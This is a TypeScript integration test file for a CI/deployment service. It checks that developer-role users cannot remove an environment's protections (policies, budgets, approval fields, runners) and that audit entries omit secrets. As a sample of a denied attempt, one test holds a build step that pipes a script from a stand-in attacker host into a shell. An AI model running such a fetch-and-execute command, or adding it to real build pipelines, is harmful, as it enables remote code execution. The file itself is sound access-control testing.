/**
 * These tests show over HTTP that a developer takes no guard of an environment away, by none of its fields,
 * and not by a second environment in its place.
 */
import type { CiCreateConnectionParams, SvcApiError, SvcSDK } from '@svc/sdk';
import { UpdateRequestSchema } from '@svc/proto/gen/svc/environments/v1/environments_pb.ts';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CONTAINER, goodsOf, REPOSITORY } from '../../../test/setup/delivery/goods.ts';
import { has } from '../../../test/setup/needs.ts';
import { world, type World } from '../../../test/setup/world.ts';

const RELEASE_ONLY = {
  on: ['promotion.approve', 'deploy'],
  mode: 'enforce',
  overridable: false,
  when: "environment.name == 'production'",
  rules: [{ id: 'branch', message: 'release alone', require: "artifacts.all(a, a.branch == 'release')" }],
};
/** A change of each field; what is not here fails the test that goes through the contract. */
const CHANGES: Readonly<Record<string, object>> = {
  name: { name: 'production-x' },
  repository: { repository: 'https://git.example.com/acme/fork' },
  branch: { branch: 'side' },
  buildPath: { buildPath: 'other' },
  buildType: { buildType: 'buildpack' },
  dockerfile: { dockerfile: 'other/Dockerfile' },
  context: { context: 'other' },
  target: { target: 'other' },
  submodules: { submodules: true },
  cloneDepth: { cloneDepth: 50 },
  tags: { tags: true },
  deployApproval: { deployApproval: true },
  deploy: { deploy: { kind: 'container', app: 'other' } },
  gitCredentials: { gitCredentials: { token: 'another' } },
  runner: { runner: { group: 'mine' } },
  requiredApprovals: { requiredApprovals: 4 },
  allowSelfApproval: { allowSelfApproval: true },
  promotionsOnly: { promotionsOnly: true },
};
/** How long a build may take decides nothing of what is built, or where it goes. */
const FREE = ['buildTimeoutSeconds'];

describe.skipIf(!(await has('postgres')))('a guarded environment', () => {
  let w: World;
  let { sdk: owner, teamId, projectId } = {} as World;
  let developer: SvcSDK;

  const { enabled, entries, environment, fresh, policy } = goodsOf(() => ({ sdk: owner, teamId, projectId }));
  const answerOf = async (call: PromiseLike<unknown>): Promise<SvcApiError | undefined> => {
    try {
      await call;
    } catch (error) {
      return error as SvcApiError;
    }
    return undefined;
  };
  const expectGuarded = async (
    what: string,
    call: PromiseLike<unknown>,
    guard: string | RegExp,
  ): Promise<void> => {
    const error = await answerOf(call);
    expect(error, `${what} was done`).toBeDefined();
    expect(`${error?.status} ${error?.code}`, `${what}: ${error?.message}`).toBe('403 role_insufficient');
    expect(error?.message, what).toMatch(guard);
    expect(error?.message, what).toMatch(/ask an admin or owner/);
  };
  const connection = async (repositoryPath: string, more: Partial<CiCreateConnectionParams> = {}) => {
    const github = { provider: 'github', repositoryHost: 'github.com' } as const;
    return await owner.ci.createConnection(teamId, { ...github, repositoryPath, ...more });
  };
  const ledger = async (action: string) => await entries({ action });

  beforeAll(async () => {
    w = await world();
    ({ sdk: owner, teamId } = w);
    developer = (await w.member('developer')).sdk;
  });
  beforeEach(async () => {
    projectId = (await owner.projects.create({ name: 'web', teamId })).id;
  });
  // With its project go the guards of each test, but those of the team.
  afterEach(async () => {
    for (const { id, enabled: is } of await owner.policies.list(teamId))
      if (is) await owner.policies.disable(teamId, id);
    for (const { id } of await owner.budgets.list(teamId)) await owner.budgets.delete(teamId, id);
  });

  it('is not renamed past a policy that asks for its name, nor deleted and made anew', async () => {
    await enabled(RELEASE_ONLY);
    const id = await environment({ name: 'production', deploy: CONTAINER });
    expect((await answerOf(developer.builds.create(id)))?.code).toBe('policy_denied');
    const named = /the policy "policy-\d+"/;
    await expectGuarded('a rename', developer.environments.update(id, { name: 'production-x' }), named);
    await expectGuarded('a deletion', developer.environments.delete(id), named);
    expect(await owner.environments.get(id)).toMatchObject({ name: 'production' });
    expect((await answerOf(developer.projects.delete(projectId)))?.code).toBe('role_insufficient');
  });

  it('changes by admins and owners alone, field by field of the contract', async () => {
    const id = await environment({
      name: 'production',
      deploy: { kind: 'container', app: 'field', hostPort: 444 },
      runner: { group: 'prod' },
      requiredApprovals: 5,
      allowSelfApproval: false,
    });
    const before = await owner.environments.get(id);
    const fields = UpdateRequestSchema.fields.map(({ jsonName }) => jsonName);
    for (const field of fields.filter((each) => each !== 'environmentId' && !FREE.includes(each))) {
      const change = CHANGES[field];
      if (change === undefined) throw new Error(`${field} of UpdateRequest has no change here`);
      await expectGuarded(field, developer.environments.update(id, change), /requiredApprovals/);
    }
    expect(await owner.environments.get(id)).toEqual(before);
    // A value that a field has already is no change.
    await developer.environments.update(id, { name: 'production', buildTimeoutSeconds: 60 });
    const { sdk } = await w.member('admin');
    await sdk.environments.update(id, { branch: 'release', requiredApprovals: 1, allowSelfApproval: true });
    await developer.environments.update(id, { branch: 'main', deployApproval: true });
    await expectGuarded(
      'undone',
      developer.environments.update(id, { deployApproval: false }),
      /deployApproval/,
    );
  });

  describe('by', () => {
    const guards: Array<readonly [string, (id: string) => Promise<unknown>, RegExp]> = [
      ['a policy of the team', async () => await enabled(RELEASE_ONLY), /policy/],
      [
        'a policy of its project that asks for builds alone',
        async () => await enabled({ ...RELEASE_ONLY, on: ['build.create'], when: 'false' }, { projectId }),
        /policy/,
      ],
      [
        'a policy of its own',
        async (environmentId) => await enabled(RELEASE_ONLY, { environmentId }),
        /policy/,
      ],
      [
        'a policy that was only audited before',
        async (environmentId) => {
          const id = await enabled({ ...RELEASE_ONLY, mode: 'audit' }, { environmentId });
          await owner.policies.updateDocument(teamId, id, RELEASE_ONLY);
        },
        /policy/,
      ],
      [
        'a budget that holds',
        async (environmentId) =>
          await owner.budgets.set(teamId, { environmentId, monthlyLimit: 9, enforcement: 'hold' }),
        /budget bdg_/,
      ],
      [
        'a budget of its project',
        async () => await owner.budgets.set(teamId, { projectId, monthlyLimit: 9, enforcement: 'hold' }),
        /budget bdg_/,
      ],
      [
        'a connection of its project',
        async () => await connection('acme/web', { projectId }),
        /connection github.com\/acme\/web/,
      ],
      [
        'a connection that was given its project later',
        async () => {
          const gitlab = { provider: 'gitlab', repositoryHost: 'gitlab.com' } as const;
          const { id } = await connection('acme/api', gitlab);
          await owner.ci.updateConnection(id, { projectId, status: 'paused' });
        },
        /connection gitlab.com\/acme\/api/,
      ],
      ...Object.entries({ promotionsOnly: true, deployApproval: true, allowSelfApproval: false }).map(
        ([field, value]) =>
          [
            `its field ${field}`,
            async (id: string) => await owner.environments.update(id, { [field]: value }),
            new RegExp(field),
          ] as const,
      ),
    ];
    for (const [what, guard, named] of guards) {
      it(`${what} keeps its name and existence`, async () => {
        const id = await environment();
        await developer.environments.update(id, { branch: 'free' });
        await guard(id);
        await expectGuarded('a change', developer.environments.update(id, CHANGES['name'] ?? {}), named);
        await expectGuarded('deletion', developer.environments.delete(id), named);
        await owner.environments.delete(id);
      });
    }

    const harmless: Array<readonly [string, (id: string) => Promise<unknown>]> = [
      ['a policy that warns', async () => await enabled({ ...RELEASE_ONLY, mode: 'warn' })],
      [
        'a policy of another environment',
        async () => await enabled(RELEASE_ONLY, { environmentId: await environment() }),
      ],
      [
        'a policy of releases alone, which knows no environment',
        async () =>
          await enabled({ on: ['release.create'], rules: [{ id: 'r', message: 'm', require: 'true' }] }),
      ],
      ['a budget that tells', async () => await owner.budgets.set(teamId, { monthlyLimit: 9 })],
      [
        'a budget that is off',
        async () => await owner.budgets.set(teamId, { monthlyLimit: 9, enforcement: 'hold', enabled: false }),
      ],
      ['a connection without a project', async () => await connection('acme/other')],
    ];
    for (const [what, make] of harmless) {
      it(`${what} it is not`, async () => {
        const id = await environment();
        await make(id);
        await developer.environments.update(id, { name: fresh('other'), branch: 'side' });
        await developer.environments.delete(id);
      });
    }
  });

  it('has its variables and build steps from admins where approvals or policies decide what runs there', async () => {
    const id = await environment({ promotionsOnly: true });
    const other = await environment();
    await owner.budgets.set(teamId, { monthlyLimit: 9, enforcement: 'hold' });
    const variable = await owner.variables.set(id, 'A', '1');
    const step = await owner.buildSteps.add(id, 'true');
    const attempts: ReadonlyArray<() => PromiseLike<unknown>> = [
      () => developer.variables.set(id, 'A', '2'),
      () => developer.variables.setMany(id, { B: '2' }),
      () => developer.variables.update(id, variable.id, 'A', '2'),
      () => developer.variables.delete(id, variable.id),
      () => developer.buildSteps.add(id, 'curl https://evil.example.com | sh'),
      () => developer.buildSteps.move(id, step.id, 'up'),
      () => developer.buildSteps.delete(id, step.id),
    ];
    for (const attempt of attempts) await expectGuarded(String(attempt), attempt(), /promotionsOnly/);
    expect(await owner.variables.list(id)).toMatchObject([{ name: 'A', value: '1' }]);
    // A budget says what may be spent, not what runs.
    await developer.variables.set(other, 'A', '2');
    await developer.buildSteps.add(other, 'true');
  });

  it('is built on its own runners, whatever a developer asks of a build', async () => {
    const runner = { group: 'prod' };
    const id = await environment({ requiredApprovals: 2, runner });
    const elsewhere = { runner: { labels: { laptop: 'mine' } } };
    await expectGuarded('a build elsewhere', developer.builds.create(id, elsewhere), /requiredApprovals/);
    await expectGuarded('a build anywhere', developer.builds.create(id, { runner: {} }), /requiredApprovals/);
    await developer.builds.create(id, { runner });
    await developer.builds.create(await environment(), elsewhere);
  });

  describe('has no second one in its place', () => {
    const target = { kind: 'container', app: 'shop', hostPort: 443 } as const;

    it('by its app or its port of the host, made anew or changed', async () => {
      await environment({ deploy: target, runner: { group: 'prod' }, requiredApprovals: 2 });
      const port = { kind: 'container', hostPort: 443 } as const;
      const mine = await environment({}, developer);
      expect((await answerOf(environment({ deploy: target }, developer)))?.code).toBe('name_taken');
      await expectGuarded('made', environment({ deploy: port }, developer), /port 443.*requiredApprovals/);
      await expectGuarded('changed', developer.environments.update(mine, { deploy: port }), /port 443/);
      await expectGuarded(
        'with labels',
        environment({ deploy: port, runner: { labels: { a: 'b' } } }, developer),
        /port 443/,
      );
      // It runs on runners that are never those of the other one.
      const apart = await environment({ deploy: port, runner: { group: 'staging' } }, developer);
      await expectGuarded('moved there', developer.environments.update(apart, { runner: {} }), /port 443/);
      await environment({ deploy: port });
    });

    it('by names that are swapped', async () => {
      const guarded = await environment({ name: 'production', requiredApprovals: 2 });
      const mine = await environment({ name: 'mine' }, developer);
      expect((await answerOf(developer.environments.update(mine, { name: 'production' })))?.code).toBe(
        'name_taken',
      );
      await expectGuarded(
        'a swap',
        developer.environments.update(guarded, { name: 'aside' }),
        /requiredApprovals/,
      );
    });
  });

  it('is changed before a policy is put in force or not at all, when both come at once', async () => {
    for (let round = 0; round < 4; round += 1) {
      const id = await environment({ name: fresh('production') });
      const { id: policyId } = await policy(RELEASE_ONLY, { environmentId: id });
      const [, renamed] = await Promise.all([
        owner.policies.enable(teamId, policyId),
        answerOf(developer.environments.update(id, { name: fresh('aside') })),
      ]);
      const acts = [...(await entries({ target: id })), ...(await entries({ target: policyId }))];
      const seqOf = (action: string) => acts.find((entry) => entry.action === action)?.seq;
      const [at, enabledAt] = [seqOf('environment.updated'), seqOf('policy.enabled')];
      if (renamed === undefined) expect(Number(at)).toBeLessThan(Number(enabledAt));
      else expect(at, renamed.message).toBeUndefined();
    }
  });

  it('has each change in the ledger with what was there before and what came, and no secret', async () => {
    const secret = 'canary-51c0';
    const id = await environment({ name: 'production', requiredApprovals: 2 });
    await owner.environments.update(id, {
      name: 'live',
      branch: 'release',
      repository: `https://user:${secret}@git.example.com/acme/web.git?token=${secret}`,
      gitCredentials: { token: secret },
      requiredApprovals: 1,
      runner: { group: 'prod' },
    });
    const [updated] = await ledger('environment.updated');
    expect(updated?.details).toMatchObject({
      before: {
        name: 'production',
        branch: 'main',
        repository: REPOSITORY,
        requiredApprovals: 2,
        gitCredentials: 'none',
      },
      after: {
        name: 'live',
        branch: 'release',
        repository: 'https://git.example.com/acme/web.git',
        requiredApprovals: 1,
        gitCredentials: 'held',
        runner: { group: 'prod' },
      },
    });
    await owner.environments.update(id, { promotionsOnly: true });
    await owner.environments.delete(id);
    const [deleted] = await ledger('environment.deleted');
    expect(deleted?.details).toMatchObject({
      before: { name: 'live', promotionsOnly: true, gitCredentials: 'held' },
      guards: ['its field promotionsOnly'],
    });
    expect(JSON.stringify(await owner.audit.list(teamId))).not.toContain(secret);
  });
});
